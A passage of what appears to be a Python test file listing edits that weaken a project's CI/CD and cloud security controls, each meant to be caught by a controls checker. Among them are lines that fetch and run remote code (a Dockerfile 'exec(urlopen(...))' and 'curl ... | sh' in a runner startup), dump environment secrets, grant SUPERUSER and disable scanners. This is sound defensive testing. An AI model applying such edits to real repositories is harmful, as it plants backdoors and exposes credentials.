"""Edits that loosen what must never be loosened, and edits that do not.

Each is made on a copy of the checkout as its author would make it, without a word to whoever
reviews: `pipeline controls` must object. `guard.yaml` runs it from main over the pull request's files,
so that an edit cannot switch it off. What is in test_controls.py, with the row that objects, is not here.
"""

import re
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from pipeline import cli, controls, trust
from pipeline.checkout import DECIDED, Checkout

W = ".github/workflows"
NIGHT = f"{W}/nightly.yaml"
GATES = "deploy/base/analysis-release-gates.yaml"
ROLLOUT = "deploy/base/rollout.yaml"
PLATFORM = "deploy/argocd/platform"
T = "infra/terraform"
ROLES = f"{T}/main.roles.tf"
PRODUCTION = "deploy/overlays/production/kustomization.yaml"
ALERTS = "observability/alertmanager/alertmanager.yaml"
ROOT = Path(__file__).parents[2]


@dataclass(frozen=True)
class Edit:
    """A change of one file: a pattern and what takes its place; a new file without a pattern.

    What begins with an arrow makes the file a link.
    """

    name: str
    path: str
    pattern: str | None
    by: str

    def make(self, root):
        file = root / self.path
        file.parent.mkdir(parents=True, exist_ok=True)
        if self.by.startswith("-> "):
            file.unlink()
            file.symlink_to(self.by[3:])
            return
        if self.pattern is None:
            file.write_text(self.by)
            return
        changed, count = re.subn(self.pattern, lambda _: self.by, file.read_text(), count=1)
        assert count, f"{self.name}: {self.pattern} is not in {self.path} any more"
        file.write_text(changed)


PROWLER = """
name: prowler
on: {push: {branches: ['**']}}
permissions: {}
jobs:
  prowl:
    name: prowl
    runs-on: [self-hosted, gridos-prd-weu]
    timeout-minutes: 5
    permissions: {contents: read}
    steps: [{run: env}]
"""
HOSTED = PROWLER.replace("[self-hosted, gridos-prd-weu]", "ubuntu-24.04")

LOOSER = [
    # The thirteen that an earlier set of controls let through.
    Edit(
        "a script of the untrusted artifact is run",
        f"{W}/rehearse-comment.yaml",
        r"run: (?=ci/run-pipeline comment)",
        "run: sh out/untrusted/notes.sh; ",
    ),
    Edit("a plan runs for pull requests", f"{W}/terraform.yaml", r"  push:", "  pull_request:\n  push:"),
    Edit(
        "tests run on production's runner",
        f"{W}/ci.yaml",
        r"(?s)runs-on: ubuntu-24.04(?=.*make lint)",
        "runs-on: [self-hosted, gridos-prd-weu]",
    ),
    Edit(
        "provenance may fail",
        f"{W}/publish.yaml",
        r'"\$DIGEST" "\$SOURCE"\n',
        '"$DIGEST" "$SOURCE" || true\n',
    ),
    Edit(
        "vulnerabilities may be there",
        ".github/actions/scan/action.yaml",
        r"run: ci/scanned out/scan.json",
        "run: ci/scanned out/scan.json || true",
    ),
    Edit("provenance of any branch", "ci/verify-provenance", r".*--source-ref.*\n", ""),
    Edit("a cache in the build", f"{W}/build.yaml", r"no-cache: true", "no-cache: false"),
    Edit(
        "the image runs what it fetches",
        "Dockerfile",
        r"\nCOPY service",
        "\nRUN python -c 'from urllib.request import *; exec(urlopen(\"http://x\").read())'\nCOPY service",
    ),
    Edit("one team owns all", ".github/CODEOWNERS", None, "* @example/grid-platform\n"),
    Edit(
        "a rehearsal is not required",
        ".github/rulesets/main.json",
        r' +\{"context": "rehearse".*\n',
        "",
    ),
    Edit(
        "admission judges another namespace",
        "deploy/admission/images.yaml",
        r"metadata.name: gridos\n",
        "metadata.name: other\n",
    ),
    Edit("a new workflow on production's runner", f"{W}/prowler.yaml", None, PROWLER),
    Edit("a new workflow", f"{W}/prowler.yaml", None, HOSTED),
    # Who may start what, and with which rights.
    Edit("a release by hand", f"{W}/release.yaml", r"on:\n", "on:\n  workflow_dispatch:\n"),
    Edit("a promotion of any ref", f"{W}/promote.yaml", r"github.ref == \S+ && ", ""),
    Edit("a rollback of any ref", f"{W}/rollback.yaml", r" +if: github.ref.*\n", ""),
    Edit("any status advances", f"{W}/promote.yaml", r"\|\| github.event.context.*\)", "|| true)"),
    Edit("failures advance too", f"{W}/promote.yaml", r"state == 'success'", "state != 'pending'"),
    Edit("a status advances to production", f"{W}/promote.yaml", r"environment: (\S+ inputs.environment \|\|) 'staging' \}\}\n", "environment: ${{ inputs.environment || 'production' }}\n"),
    Edit("a comment may write contents", f"{W}/rehearse-comment.yaml", r"contents: read", "contents: write"),
    Edit("rights by default", f"{W}/ci.yaml", r"permissions: \{\}", "permissions: write-all"),
    Edit("a stranger's event with our rights", f"{W}/ci.yaml", r"  pull_request:", "  pull_request_target:"),
    # Environments, keys and branches.
    Edit("no environment at the pin", f"{W}/promote.yaml", r" +environment: .* \}\}-pin\n", ""),
    Edit("production's pin is dev's", f"{W}/promote.yaml", r"environment: .* \}\}-pin", "environment: dev-pin"),
    Edit("a rollback by the plan's environment", f"{W}/rollback.yaml", r"environment: \S+ inputs.environment \}\}-rollback", "environment: dev-rollback"),
    Edit("nobody is asked for production", ".github/environments.json", r'("production-pin".*?"reviewers": )\["grid-reliability"\]', '"production-pin": {"branches": ["main"], "reviewers": []'),
    Edit("every branch may pin", ".github/environments.json", r'"dev-pin": \{"branches": \["main"\]', '"dev-pin": {"branches": ["*"]'),
    Edit("who asks may approve", ".github/environments.json", r'"prevent_self_review": true', '"prevent_self_review": false'),
    Edit("the key in every job", f"{W}/release.yaml", r"uses: ./.github/workflows/publish.yaml\n", "uses: ./.github/workflows/publish.yaml\n    secrets: inherit\n"),
    Edit("the App's token for everything", f"{W}/promote.yaml", r" +permission-contents: write\n", ""),
    Edit("the App may administer", f"{W}/rollback.yaml", r"permission-contents: write", "permission-administration: write"),
    Edit("anybody may write pins", ".github/rulesets/environments.json", r'"active"', '"disabled"'),
    Edit("the App goes past review", ".github/rulesets/main.json", r'"bypass_actors": \[\]', '"bypass_actors": [{"actor_id": 0, "actor_type": "Integration", "bypass_mode": "always"}]'),
    Edit("main's rules are only evaluated", ".github/rulesets/main.json", r'"active"', '"evaluate"'),
    Edit("main's rules are another branch's", ".github/rulesets/main.json", r"~DEFAULT_BRANCH", "refs/heads/stable"),
    Edit("no review of the last push", ".github/rulesets/main.json", r'last_push_approval": true', 'last_push_approval": false'),
    Edit("security does not own ci", ".github/CODEOWNERS", r"/ci/ .*\n", ""),
    Edit("reliability does not own gates", ".github/CODEOWNERS", r"/deploy/base/analysis.*\n", ""),
    # What is scanned, verified, signed and admitted.
    Edit("the verdict of the stage before is anybody's", f"{W}/promote.yaml", r"VERDICT_APP: \$\{\{ vars.VERDICT_APP \}\}", "VERDICT_APP: github-actions[bot]"),
    Edit("the scan is left out", f"{W}/build.yaml", r"(?s)      - uses: ./.github/actions/scan.*?(?=      - uses)", ""),
    Edit("the scan of a pull request is left out", f"{W}/rehearse.yaml", r"(?s)      - uses: ./.github/actions/scan.*?(?=      - uses)", ""),
    Edit("a pull request brings its own harness", f"{W}/rehearse.yaml", r"ref: .*base.sha \}\}", 'ref: "${{ github.sha }}'),
    Edit("the guard is the pull request's", f"{W}/guard.yaml", r"trusted/ci/run-pipeline", "proposed/ci/run-pipeline"),
    Edit("a result of any workflow is believed", f"{W}/rehearse-comment.yaml", r"\n +&& github.event.workflow_run.path == \S+", ""),
    Edit("the guard is not required", ".github/rulesets/organization.json", r".*guard.yaml.*\n", ""),
    Edit("the guard of a branch is required", ".github/rulesets/organization.json", r"refs/heads/main", "refs/heads/dev"),
    Edit("the scan sees less", f"{W}/build.yaml", r"image: out/image \}", "image: out/other }"),
    Edit("another image is attested", f"{W}/build.yaml", r'subject-digest: "?\$\{\{ needs.image.outputs.digest \}\}', 'subject-digest: "${{ inputs.digest }}'),
    Edit("attested by the job that builds", f"{W}/build.yaml", r"needs: image\n", "needs: []\n"),
    Edit("self-hosted provenance counts", "ci/verify-provenance", r" \\\n +--deny-self-hosted-runners", ""),
    Edit("a stranger's signature", "deploy/admission/signature.yaml", r"publish.yaml@refs/heads/main", "publish.yaml@refs/heads/.*"),
    Edit("any image reference is skipped", "deploy/admission/signature.yaml", r'glob: "\*"', 'glob: "docker.io/*"'),
    Edit("tags are let in", "deploy/admission/images.yaml", r"\$'\)\n          &&", "$') || true\n          &&"),
    Edit("no bill of materials is asked", "deploy/admission/signature.yaml", r"(?s)    - expression: >-\n        variables.all.map\(image,\n.*", ""),
    Edit("the namespace carries another name", "deploy/base/namespace.yaml", r"name: gridos", "name: gridos-2"),
    Edit("Argo CD follows any branch", "deploy/argocd/application-production.yaml", r"environments/production", "main"),
    Edit("Argo CD heals nothing", "deploy/argocd/application-production.yaml", r"selfHeal: true", "selfHeal: false"),
    Edit("a degraded release counts as promoted", "deploy/argocd/notifications.yaml", r"health.status == 'Healthy'", "health.status != 'Missing'"),
    Edit("the service makes roles", "deploy/argocd/project-gridos.yaml", r"\{group: batch, kind: Job\}", "{group: rbac.authorization.k8s.io, kind: RoleBinding}"),
    Edit("root in the image", "Dockerfile", r"USER 10001:10001", "USER 0"),
    Edit("wheels without hashes", "Dockerfile", r"--require-hashes ", ""),
    Edit("a base of a stranger", "Dockerfile", r"python:3.13-slim@", "docker.io/stranger/python:3.13-slim@"),
    Edit("an action of a stranger", f"{W}/release.yaml", r"actions/checkout@", "stranger/checkout@"),
    Edit("an action by its branch", f"{W}/ci.yaml", r"@[0-9a-f]{40} # v7.0.1", "@main"),
    Edit("the clone keeps its token", f"{W}/release.yaml", r"persist-credentials: false", "persist-credentials: true"),
    Edit("updates at once", ".github/dependabot.yaml", r"default-days: 7", "default-days: 0"),
    # What checks, switched off.
    Edit("lint objects to nothing", "Makefile", r"(?m)^(lint: .*)\n\t@.*\n", "lint: setup\n\t@true\n"),
    Edit("a linter may fail", "Makefile", r"(zizmor --quiet.*)\n", "zizmor --quiet .github || true\n"),
    Edit("no coverage is asked", "Makefile", r"--fail-under=\"\$\$FLOOR\"", "--fail-under=0"),
    Edit("tests may fail", f"{W}/ci.yaml", r"run: make coverage\n", "run: make coverage || true\n"),
    Edit("the tests' job may fail", f"{W}/ci.yaml", r"    name: test\n", "    name: test\n    continue-on-error: true\n"),
    Edit("the tests are skipped", f"{W}/ci.yaml", r"    name: test\n", "    name: test\n    if: github.actor != 'mallory'\n"),
    Edit("a rehearsal of nothing", f"{W}/rehearse.yaml", r"run: ci/rehearse-on-kind.*", "run: 'true'"),
    Edit("an expression of zizmor is off", ".github/zizmor.yaml", r"rules:\n", "rules:\n  unpinned-uses:\n    disable: true\n"),
    Edit("actionlint ignores all", ".github/actionlint.yaml", r"- 'unexpected", "- '.*'\n      - 'unexpected"),
    Edit("the control is emptied", "ci/pipeline/controls.py", r"(?m)^CONTROLS = \(", "CONTROLS = () or ("),
    Edit("the digests are constant", "ci/pipeline/trust.py", r"hexdigest\(\)\[:16\]", "hexdigest()[:0]"),
    Edit("the runner is given the App's key", "infra/terraform/runners/register", r'--arg jit "\$jit"', '--arg jit "$APP_KEY"'),
    Edit("what was never promoted is promotable", "ci/pipeline/overlay.py", r'PROMOTED = "success"', 'PROMOTED = "pending"'),
    Edit("a scan that saw nothing is one", "ci/scanned", r"exit 1", "exit 0"),
    Edit("a plan may destroy", "ci/may-destroy", r"(?s)set -euo pipefail\n.*", "echo true\n"),
    Edit("a plan is applied unseen", "ci/terraform", r"\|\| fail \"the plan of .*", "|| true"),
    # What a tool is told in a comment, or reads in another file's place, and what runs beside.
    Edit("another frontend builds the image", "Dockerfile", r"\A", "# syntax=docker.io/stranger/dockerfile:1\n"),
    Edit("a finding of hadolint is off", "Dockerfile", r"\nRUN ", "\n# hadolint ignore=DL3002\nRUN "),
    Edit("a finding of zizmor is off", f"{W}/nightly.yaml", r"make accept-bench", "make accept-bench # zizmor: ignore[template-injection]"),
    Edit("a finding of shellcheck is off", "ci/verify-provenance", r"set -euo pipefail\n", "set -euo pipefail\n# shellcheck disable=SC2086\n"),
    Edit("make reads another file", "GNUmakefile", None, "lint test:\n\t@true\n"),
    Edit("make's shell is none", "Makefile", r"SHELL := /bin/sh", "SHELL := /bin/true"),
    Edit("make's path begins here", "Makefile", r"\n##@ Begin", "\nexport PATH := $(CURDIR)/fast:$(PATH)\n\n##@ Begin"),
    Edit("make takes in another file", "Makefile", r"\n##@ Begin", "\n-include local.mk\n\n##@ Begin"),
    Edit("a recipe goes past an error", "Makefile", r"(?m)^\.DEFAULT_GOAL", ".IGNORE:\n.DEFAULT_GOAL"),
    Edit("a module takes a library's name", "ci/hashlib.py", None, "print('mine')\n"),
    Edit("what pins runs, and is the service's", "service/gridos/program.py", r"\A", "import os\n"),
    Edit("the image is made of everything", ".dockerignore", r"(?s)\A.*", "!**\n"),
    Edit("secrets are allowed in history", ".gitleaks.toml", None, "[allowlist]\npaths = ['.*']\n"),
    Edit("a scan's ignores by another name", ".trivyignore", None, "CVE-2026-1\n"),
    Edit("shellcheck finds nothing", ".shellcheckrc", None, "disable=all\n"),
    Edit("a review sees nothing", ".gitattributes", None, ".github/** linguist-generated -diff\n"),
    Edit("ruff finds nothing", "ruff.toml", None, "lint.select = []\n"),
    Edit("releases are cancelled", f"{W}/release.yaml", r"queue: max", "cancel-in-progress: true"),
    Edit("an action of ours by nobody", ".github/actions/extra/action.yaml", None, "runs: {using: composite, steps: [{run: env, shell: bash}]}\n"),
    Edit("updates by another name", ".github/dependabot.yml", None, "version: 2\nupdates: []\n"),
    Edit("Argo CD's users are administrators", "deploy/argocd/kustomization.yaml", r"\Z", "# x\npatches: [{path: x.yaml}]\n"),
    Edit("Kyverno's words are not heard", "deploy/argocd/platform/kyverno-values.yaml", r"\Z", "more: {replicas: 0}\n"),
    Edit("a check of strictness is off", ".github/rulesets/main.json", '"strict_required_status_checks_policy": true','"strict_required_status_checks_policy": false'),
    Edit("tests are not collected", "pyproject.toml", r"\"-ra\"", '"--co"'),
    Edit("tests are not collected by conftest", "conftest.py", r"\Z", "\ncollect_ignore_glob = ['*']\n"),
    Edit("the run of a rehearsal is another", "ci/rehearse-on-kind", r"exit 1", "exit 0"),
    Edit("the setup fetches without hashes", "ci/install.py", r'LOCKED = \("--require-hashes", ',"LOCKED = ("),
    # What goes before a file that is reviewed, or runs beside the keys, or judges elsewhere.
    Edit("a scan by another file of its folder", ".github/actions/scan/action.yml", None, "name: Scan\nruns: {using: composite, steps: []}\n"),
    Edit("an action brings a script", ".github/actions/setup/prepare.sh", None, "env\n"),
    Edit("what the image leaves out is said elsewhere", "Dockerfile.dockerignore", None, "!**\n"),
    Edit("podman builds another file", "Containerfile", None, "FROM docker.io/stranger/gridos\n"),
    Edit("what pins begins elsewhere", "canary/runtime/program.py", r"(?s)\A.*", "print('mine')\n"),
    Edit("a package goes before a module", "ci/pipeline/trust/__init__.py", None, "def differences(_): return []\n"),
    Edit("a compiled module goes before its source", "ci/pipeline/overlay.abi3.so", None, "\x7fELF"),
    Edit("every Python begins with it", "service/sitecustomize.py", None, "print('mine')\n"),
    Edit("a review sees no workflow", ".github/workflows/.gitattributes", None, "* -diff\n"),
    Edit("a module without a source", "ci/hashlib.pyc", None, "mine"),
    Edit("one package more beside the keys", "requirements/pipeline.txt", r"\A", "stranger==1.0 --hash=sha256:00\n"),
    Edit("one package more before all others", "requirements/uv.txt", r"\A", "stranger==1.0 --hash=sha256:00\n"),
    Edit("no plan is refused", "infra/terraform/scripts/plan_policies.py", r"EXIT_VIOLATION if found else EXIT_GOOD", "EXIT_GOOD"),
    Edit("the database's role may do more", "infra/terraform/scripts/role.sql", r"\Z", "ALTER ROLE gridos SUPERUSER;\n"),
    Edit("Azure believes any branch's plan", "infra/terraform/bootstrap/gridos.tfvars", r"environment:production-plan", "ref:refs/heads/dev"),
    Edit("Azure lets dev push to production", "infra/terraform/environments/production.tfvars", r"environment:production-push", "environment:dev-push"),
    Edit("the identity that plans may write", "infra/terraform/bootstrap/main.pipeline.tf", r"\Z", 'resource "azurerm_role_assignment" "more" {}\n'),
    Edit("runners start from a stranger's image", "infra/terraform/environments/production.tfvars", r"ghcr.io/example/", "ghcr.io/stranger/"),
    Edit("ruff has one rule", "pyproject.toml", r'select = \["ALL"\]', 'select = ["E501"]'),
    Edit("types are a matter of taste", "pyproject.toml", r"(?s)(\[tool.mypy\]\n)strict = true", "[tool.mypy]\nstrict = false"),
    Edit("packages come from elsewhere", "pyproject.toml", r"\Z", '\n[tool.uv]\nindex-url = "https://example.com/simple"\n'),
    Edit("packages come from elsewhere, by another file", "uv.toml", None, 'index-url = "https://example.com/simple"\n'),
    Edit("yamllint finds nothing", ".yamllint.yaml", r"extends: default", "extends: relaxed"),
    Edit("actionlint ignores all, by another name", ".github/actionlint.yml", None, "paths: {'**': {ignore: ['.*']}}\n"),
    # As somebody would who may open a pull request: from main's other jobs, by names, and beside what is read.
    Edit("a night runs a stranger's action", NIGHT, r"helm/kind-action@", "stranger/kind-action@"),
    Edit("a night runs in a stranger's container", NIGHT, r"    name: bench\n", "    name: bench\n    container: docker.io/stranger/bench\n"),
    Edit("an artifact may bring the programs that sign it", f"{W}/publish.yaml", r"path: out/built,", "path: out,"),
    Edit("the scan has its settings from a file", "trivy.yaml", None, "vulnerability: {ignore-status: [fixed]}\n"),
    Edit("the scan finds its database made", ".cache/trivy/db/metadata.json", None, '{"NextUpdate": "2099-01-01T00:00:00Z"}\n'),
    Edit("the bill of materials leaves out", ".syft.yaml", None, "exclude: ['./**']\n"),
    Edit("a part of a library beside the keys", "ci/ruamel/yaml.py", None, "print('mine')\n"),
    Edit("a part of a library at the top", "ruamel/yaml/__init__.py", None, "print('mine')\n"),
    Edit("shellcheck finds nothing in a folder", "ci/.shellcheckrc", None, "disable=all\n"),
    Edit("ruff finds nothing in a folder", "service/ruff.toml", None, "lint.select = []\n"),
    Edit("a review sees nothing of a folder", "ci/.gitattributes", None, "* linguist-generated -diff\n"),
    Edit("types are a matter of taste, by another file", ".mypy.ini", None, "[mypy]\nignore_errors = True\n"),
    Edit("types are a matter of taste where keys are", "pyproject.toml", r"(?m)^\[tool.importlinter\]", '[[tool.mypy.overrides]]\nmodule = ["pipeline.*"]\nignore_errors = true\n\n[tool.importlinter]'),
    Edit("tests are not collected, by another file", "pytest.toml", None, "[pytest]\naddopts = ['--co']\n"),
    Edit("tests are not collected in a folder", "service/tests/conftest.py", r"\Z", "\ncollect_ignore_glob = ['*']\n"),
    Edit("tests are skipped as they are collected", "canary/tests/conftest.py", r"\Z", "\ndef pytest_collection_modifyitems(items): items.clear()\n"),
    Edit("the owners are those of another place", ".github/CODEOWNERS", None, f"-> {ROOT}/.github/CODEOWNERS"),
    Edit("what verifies is kept elsewhere", "ci/verify-provenance", None, f"-> {ROOT}/ci/verify-provenance"),
    Edit("a plan runs a program", "infra/terraform/main.tf", r"\Z", 'data "external" "x" { program = ["env"] }\n'),
    Edit("an apply runs a program", "infra/terraform/main.vault.tf", r"\Z", 'resource "terraform_data" "x" {\n  provisioner "local-exec" { command = "env" }\n}\n'),
    Edit("a plan runs a stranger's provider", "infra/terraform/terraform.tf", r"hashicorp/azurerm", "stranger/azurerm"),
    Edit("a plan fetches a stranger's module", "infra/terraform/more.tf", None, 'module "x" {\n  source = "git::https://example.com/x"\n}\n'),
    Edit("a file overrides the others", "infra/terraform/identity_override.tf", None, "locals {}\n"),
    Edit("values come of themselves", "infra/terraform/more.auto.tfvars", None, "x = 1\n"),
    Edit("the state is kept elsewhere", "infra/terraform/environments/production.backend.hcl", r'storage_account_name *= *"\w+"', 'storage_account_name = "strangers"'),
    Edit("Go is another", "go.mod", None, "module x\ntoolchain go1.99-mine\n"),
    Edit("reports of weaknesses go elsewhere", "SECURITY.md", r"\A", "Write to security@example.net.\n"),
    Edit("a finding of codeql is off", "ci/install.py", r"(?m)^import ast\n", "# codeql[py/clear-text-logging]\nimport ast\n"),
    Edit("a finding of tflint is off", "infra/terraform/bootstrap/main.tf", r"\Z", "# tflint-ignore: all\n"),
    Edit("a shell of the guard begins elsewhere", f"{W}/guard.yaml", r"(?m)^permissions:", "env: { BASH_ENV: proposed/env.sh }\n\npermissions:"),
    Edit("a branch of the author's own judges", f"{W}/rehearse.yaml", r" +branches: \[main\].*\n", ""),
    Edit("a plan finds its provider made", "infra/terraform/terraform.d/plugins/registry.terraform.io/hashicorp/azurerm/9.9.9/linux_amd64/terraform-provider-azurerm", None, "#!/bin/sh\n"),
    Edit("tflint finds nothing", "infra/terraform/.tflint.hcl", r"\A", "config { disabled_by_default = true }\n"),
    Edit("checkov finds nothing", "infra/terraform/.checkov.yaml", None, "skip-check: ['*']\n"),
    Edit("GitHub's scan for secrets leaves out", ".github/secret_scanning.yml", None, "paths-ignore: ['**']\n"),
    Edit("Argo CD patches what was checked", "deploy/overlays/production/.argocd-source.yaml", None, "kustomize: {patches: [{path: x.yaml}]}\n"),
    Edit("Argo CD finds a chart", "deploy/overlays/production/Chart.yaml", None, "{apiVersion: v2, name: x, version: 1.0.0}\n"),
    Edit("an action in a folder that is made elsewhere", ".github/actions/out/action.yaml", None, "runs: {using: composite, steps: [{run: env, shell: bash}]}\n"),
    Edit("a promotion of any words", f"{W}/promote.yaml", r"type: choice, options: \[staging, production\]", "type: string"),
    Edit("a rehearsal's cluster takes any pod", "ci/rehearse-on-kind", r".*bin/policies.*\n", ""),
    Edit("errors are nothing to make", "Makefile", r"(?m)^SHELL :=", "MAKEFLAGS += --ignore-errors\nSHELL :="),
    # Gates, and the way to them and from them.
    Edit("a gate lets slow releases pass", GATES, r'value: "0.25"', 'value: "5"'),
    Edit("a gate wants no traffic", GATES, r'value: "80"', 'value: "1"'),
    Edit("gates are only tried", GATES, r"  metrics:\n", "  dryRun:\n    - metricName: .*\n  metrics:\n"),
    Edit("a gate never fails", GATES, r"failureCondition: len\(result.*", 'failureCondition: "false"'),
    Edit("a gate may fail", GATES, r"name: p95-latency-seconds\n", "name: p95-latency-seconds\n      failureLimit: 100\n"),
    Edit("a gate measures stable too", GATES, r', rollouts_pod_template_hash="[^"]*"', ""),
    Edit("a gate asks another Prometheus", GATES, r"prometheus-operated.monitoring", "prometheus.gridos"),
    Edit("more errors pass", "deploy/base/analysis-release-guard.yaml", r'(name: max-error-ratio\n +value: )"[^"]*"', 'name: max-error-ratio\n      value: "0.5"'),
    Edit("a step without gates", ROLLOUT, r"(?s)        - analysis:\n.*?value: 50s\n", ""),
    Edit("a first step for everybody", ROLLOUT, r"setWeight: 10\n", "setWeight: 100\n"),
    Edit("a pause of a second", ROLLOUT, r"duration: 1m", "duration: 1s"),
    Edit("no background analysis", ROLLOUT, r"(?s)      analysis:\n        startingStep: 0.*?(?=      # Each window)", ""),
    Edit("a background analysis at the end", ROLLOUT, r"startingStep: 0", "startingStep: 9"),
    Edit("a step loosens its gate", ROLLOUT, r"                value: 50s\n", "                value: 50s\n              - name: max-p95-seconds\n                value: '5'\n"),
    Edit("a release of long ago skips the gates", ROLLOUT, r"revisions: 3\n", "revisions: 100\n"),
    Edit("a release that hangs stays", ROLLOUT, r"progressDeadlineAbort: true", "progressDeadlineAbort: false"),
    Edit("production has no steps", PRODUCTION, r"  - path: scale.yaml\n", "  - path: scale.yaml\n  - target: {kind: Rollout}\n    patch: |\n      - {op: remove, path: /spec/strategy/canary/steps}\n"),
    Edit("production loosens a gate", PRODUCTION, r"  - path: scale.yaml\n", "  - path: scale.yaml\n  - target: {kind: AnalysisTemplate, name: release-gates}\n    patch: |\n      - {op: replace, path: /spec/args/5/value, value: '9'}\n"),
    Edit("alerts abort nothing in production", PRODUCTION, r".*alerts-abort\n", ""),
    Edit("production's registry is dev's", PRODUCTION, r"crgridosprd", "crgridosdev"),
    Edit("production's pods are asked by anybody", PRODUCTION, r"10.42.4.0/24", "0.0.0.0/0"),
    Edit("a component loosens a gate", "deploy/components/azure/kustomization.yaml", r"patches:\n", "patches:\n  - target: {kind: AnalysisTemplate, name: release-guard}\n    patch: |\n      - {op: add, path: /spec/dryRun, value: [{metricName: '.*'}]}\n"),
    Edit("every alert was decided about", "deploy/components/alerts-abort/kustomization.yaml", r"valueFrom: .*", 'value: ".*"'),
    Edit("an alert fails no release", "deploy/components/alerts-abort/analysis-blocking-alerts.yaml", r"failureCondition: .*", 'failureCondition: "false"'),
    Edit("pods reach anybody", "deploy/base/networkpolicy-entra.yaml", r"20.20.32.0/19", "0.0.0.0/0"),
    Edit("pods are reached by anybody", "deploy/base/kustomization.yaml", r".*networkpolicy-default-deny.yaml\n", ""),
    Edit("the gates' metrics are not scraped", "deploy/base/podmonitor.yaml", r"port: management", "port: http"),
    Edit("pods read more of the vault", "deploy/base/secretproviderclass.yaml", r"objectName: .*", "objectName: github-runner-app-key"),
    Edit("nobody is woken", ALERTS, r"receiver: pages-platform\n", "receiver: tickets-platform\n"),
    Edit("an alert silences all", ALERTS, r"inhibit_rules:\n", 'inhibit_rules:\n  - source_matchers: [alertname="Watchdog"]\n    target_matchers: [severity="page"]\n'),
    Edit("the outside watcher is another", ALERTS, r"https://dead-mans-switch.example", "https://example.com"),
    # Rights in Azure and in the cluster, and what runs there or on the laptops of those who have them.
    Edit("nodes may push", ROLES, r"AcrPull", "AcrPush"),
    Edit("the service may change its group", ROLES, r'(who = "workload", role = )"Key Vault Secrets User"', 'who = "workload", role = "Contributor"'),
    Edit("runners may push", ROLES, r'who = "push"', 'who = "runners"'),
    Edit("one more right", ROLES, r"      loki-keeps", '      more = { who = "workload", role = "AcrPush", scope = azurerm_container_registry.this.id }\n      loki-keeps'),
    Edit("a right in another file", f"{T}/main.more.tf", None, 'resource "azurerm_role_assignment" "more" {\n  role_definition_name = "AcrPush"\n}\n'),
    Edit("a subject in another file", f"{T}/main.more.tf", None, 'resource "azurerm_federated_identity_credential" "more" {\n  subject = "repo:example/gridos:pull_request"\n}\n'),
    Edit("tokens of another issuer push", f"{T}/main.identity.tf", r"https://token.actions.githubusercontent.com", "https://tokens.example.com"),
    Edit("tokens for another audience push", f"{T}/main.identity.tf", r"api://AzureADTokenExchange", "api://any"),
    Edit("pods of another namespace are the service", f"{T}/main.identity.tf", r"serviceaccount:gridos:gridos", "serviceaccount:default:default"),
    Edit("the registry has a password", f"{T}/main.registry.tf", r"(admin_enabled +)= false", "admin_enabled = true"),
    Edit("the vault is open", f"{T}/main.vault.tf", r'default_action = "Deny"', 'default_action = "Allow"'),
    Edit("the vault may be destroyed", f"{T}/main.vault.tf", r"prevent_destroy = true", "prevent_destroy = false"),
    Edit("the database is public", f"{T}/main.database.tf", r"(public_network_access_enabled +)= false", "public_network_access_enabled = true"),
    Edit("the database takes passwords", f"{T}/main.database.tf", r"(password_auth_enabled +)= false", "password_auth_enabled = true"),
    Edit("the cluster has an administrator without a name", f"{T}/main.cluster.tf", r"local_account_disabled = true", "local_account_disabled = false"),
    Edit("the cluster asks nobody's roles", f"{T}/main.cluster.tf", r"(azure_rbac_enabled +)= true", "azure_rbac_enabled = false"),
    Edit("the internet reaches the database", f"{T}/main.network-security.tf", r'source = local.subnets.nodes.cidr, ports = \["5432"\]', 'source = "Internet", ports = ["5432"]'),
    Edit("anything reaches the runners", f"{T}/main.network-security.tf", r'\["gateway"\]\)', '["gateway", "runners"])'),
    Edit("jobs hold an identity", f"{T}/main.runners.tf", r'"isolated" \{\n', '"isolated" {\n  identity { identity_ids = [azurerm_user_assigned_identity.this["push"].id] }\n'),
    Edit("runners run something before", f"{T}/main.runners.tf", r"exec ./run.sh", "curl https://example.com/x | sh; exec ./run.sh"),
    *(
        Edit(f"production's {name}", f"{T}/environments/production.tfvars", pattern, by)
        for name, pattern, by in [
            ("administrators are others", r"c001", "beef"),
            ("database belongs to others", r"c002", "beef"),
            ("API server is open", r"\Z", '\napi_server_authorized_ip_ranges = ["0.0.0.0/0"]\n'),
            ("vault is open to an address", r"\Z", '\napplier_ip_ranges = ["203.0.113.7"]\n'),
            ("data has no locks", r"\Z", "\nlocks_enabled = false\n"),
            ("runners are another repository's", r"https://github.com/example/", "https://github.com/stranger/"),
            ("runners are another App's", r'"3000001"', '"666"'),
            ("runners take any workflow", r'"5000001"', '"666"'),
        ]
    ),
    Edit("others operate", f"{T}/bootstrap/gridos.tfvars", r"d001", "beef"),
    Edit("others break the glass", f"{T}/bootstrap/gridos.tfvars", r"d002", "beef"),
    Edit("bootstrap's state is elsewhere", f"{T}/bootstrap/backend.hcl", r'"[^"]+"', '"stranger"'),
    Edit("others administer Argo CD", f"{T}/gitops/environments/production.tfvars", r"c001", "beef"),
    Edit("another application signs in to Argo CD", f"{T}/gitops/environments/production.tfvars", r"e001", "beef"),
    Edit("everybody administers Argo CD", f"{T}/gitops/main.tf", r"g, \$\{var.admin_group_id\}", "g, *"),
    Edit("whoever signs in administers Argo CD", f"{T}/gitops/argo-cd-values.yaml", r"role:readonly", "role:admin"),
    Edit("Argo CD has a password", f"{T}/gitops/argo-cd-values.yaml", r"admin.enabled: false", "admin.enabled: true"),
    Edit("Argo CD is on the internet", f"{T}/gitops/argo-cd-values.yaml", r"ClusterIP", "LoadBalancer"),
    Edit("Argo CD runs plug-ins", f"{T}/gitops/argo-cd-values.yaml", r"admin.enabled: false", "admin.enabled: false\n    kustomize.buildOptions: --enable-alpha-plugins --enable-exec"),
    Edit("Argo CD is a stranger's", f"{T}/gitops/main.tf", r"oci://ghcr.io/argoproj/", "oci://ghcr.io/stranger/"),
    Edit("the root follows another branch", f"{T}/gitops/main.tf", r'targetRevision = "main"', 'targetRevision = "next"'),
    Edit("the root may make anything", f"{T}/gitops/root-values.yaml", r'group: "", kind: ConfigMap', 'group: "*", kind: "*"'),
    Edit("a chart runs a program", f"{T}/gitops/main.tf", r"atomic +=", 'postrender = { binary_path = "/bin/sh" }\n  atomic ='),
    Edit("the cluster's login runs a program", f"{T}/gitops/providers.tf", r"config_context =", 'exec = { command = "sh" }\n    config_context ='),
    Edit("Azure's tokens go elsewhere", f"{T}/providers.tf", r'"azurerm" \{\n', '"azurerm" {\n  metadata_host = "example.com"\n'),
    Edit("a module beside the plan's judge", f"{T}/scripts/json.py", None, "print('mine')\n"),
